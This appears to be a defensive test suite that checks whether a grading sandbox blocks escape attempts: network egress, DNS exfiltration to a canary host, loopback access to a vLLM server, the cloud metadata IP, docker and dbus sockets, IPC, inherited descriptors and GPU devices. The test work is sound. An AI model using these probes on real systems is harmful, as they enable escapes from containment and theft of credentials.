"""Attacks over the network and other ways from process to process."""

from __future__ import annotations

import json

from attacks.catalogue import attack
from attacks.ground import Ground, stopped
from envs.sandbox import GraderError

CONNECT = """
given = json.loads(sys.argv[1])
def connect(family, kind, address, data=b"x"):
    with socket.socket(family, kind) as s:
        s.settimeout(1)
        s.connect(address)
        s.send(data)
"""


async def _tries(g: Ground, tries: str) -> None:
    stopped(await g.python(f"{CONNECT}worked({tries})", json.dumps(g.prey.given())))
    source = f"import socket\ndef grade(s, i):\n socket.socket(socket.{'AF_INET'}, socket.SOCK_STREAM)\n return 1.0"
    outcome = await g.grade(source)
    assert isinstance(outcome, GraderError) and "not supported" in str(outcome), outcome


@attack(40)
async def tcp_egress(g: Ground) -> None:
    await _tries(g, 'tcp=lambda: connect(socket.AF_INET, socket.SOCK_STREAM, ("192.0.2.1", 80)), '
                    'six=lambda: connect(socket.AF_INET6, socket.SOCK_STREAM, ("2001:db8::1", 80))')  # fmt: skip


@attack(41)
async def udp_dns_exfil(g: Ground) -> None:
    await _tries(g, 'udp=lambda: connect(socket.AF_INET, socket.SOCK_DGRAM, ("192.0.2.1", 53)), '
                    'dns=lambda: socket.getaddrinfo("canary.example", 80), '
                    'local=lambda: connect(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", given["port"]), b"") '
                    'or connect(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", given["port"]))')  # fmt: skip


@attack(42)
async def loopback_vllm(g: Ground) -> None:
    await _tries(g, 'four=lambda: connect(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", given["port"])), '
                    'six=lambda: connect(socket.AF_INET6, socket.SOCK_STREAM, ("::ffff:127.0.0.1", given["port"])), '
                    'any=lambda: connect(socket.AF_INET, socket.SOCK_STREAM, ("0.0.0.0", given["port"]))')  # fmt: skip


@attack(43)
async def metadata_ip(g: Ground) -> None:
    await _tries(g, 'metadata=lambda: connect(socket.AF_INET, socket.SOCK_STREAM, ("169.254.169.254", 80))')


@attack(44)
async def abstract_unix(g: Ground) -> None:
    await _tries(g, 'abstract=lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, "\\0" + given["name"])')


@attack(45)
async def path_unix(g: Ground) -> None:
    await _tries(g, 'path=lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, given["socket"]), '
                    'docker=lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, "/var/run/docker.sock"), '
                    'dbus=lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, "/run/dbus/system_bus_socket")')  # fmt: skip


@attack(46)
async def vsock_alg_netlink_packet(g: Ground) -> None:
    families = {"vsock": 40, "alg": 38, "netlink": 16, "packet": 17, "bluetooth": 31, "tipc": 30, "can": 29, "rds": 21}
    tries = ", ".join(f"{name}=lambda: socket.socket({n}, socket.SOCK_DGRAM)" for name, n in families.items())
    raw = "raw=lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1), tipc_pair=lambda: call(53, 30, 1, 0, ctypes.create_string_buffer(8))"
    await _tries(g, f"{tries}, {raw}")


@attack(47)
async def sysv_posix_ipc(g: Ground) -> None:
    plant = "call(29, 4242, 4096, 0o1666); call(68, 4242, 0o1666)"
    find = "worked(shm=lambda: call(29, 4242, 4096, 0), msg=lambda: call(68, 4242, 0), mq=lambda: call(240, b'/x', 0o102, 0o600, 0))"
    async with g.box() as box:
        await box.python(plant)
        stopped(await g.python(find))
    source = "import ctypes\ndef grade(s, i):\n C = ctypes.CDLL(None)\n return float(C.syscall(29, 4243, 4096, s) >= 0)"
    outcomes = [await g.grade(source, mode) for mode in (0o1666, 0)]
    assert getattr(outcomes[1], "value", 0.0) == 0.0, outcomes


@attack(48)
async def inherited_fd(g: Ground) -> None:
    code = """
import stat
for n in range(3, 4096):
    try: print("WORKED", n, os.fstat(n))
    except OSError: pass
for n in (0, 1, 2):
    if stat.S_ISSOCK(os.fstat(n).st_mode): print("WORKED socket", n)
print("stopped", file=sys.stderr)
"""
    stopped(await g.python(code))
    source = (
        "import os\ndef grade(s, i):\n found = []\n for n in range(4, 4096):\n  try: os.fstat(n); found.append(n)\n"
    )
    source += "  except OSError: pass\n return float(len(found))"
    outcome = await g.grade(source, high=4096)
    assert getattr(outcome, "value", None) == 0.0, outcome


@attack(49)
async def gpu_snoop(g: Ground) -> None:
    code = """
import glob
devices = glob.glob("/dev/nvidia*") + glob.glob("/dev/dri/*") + ["/dev/nvidia0", "/dev/nvidiactl", "/dev/kvm", "/dev/dri/card0"]
for device in devices: worked(**{device: lambda: os.open(device, os.O_RDWR)})
"""
    stopped(await g.python(code))
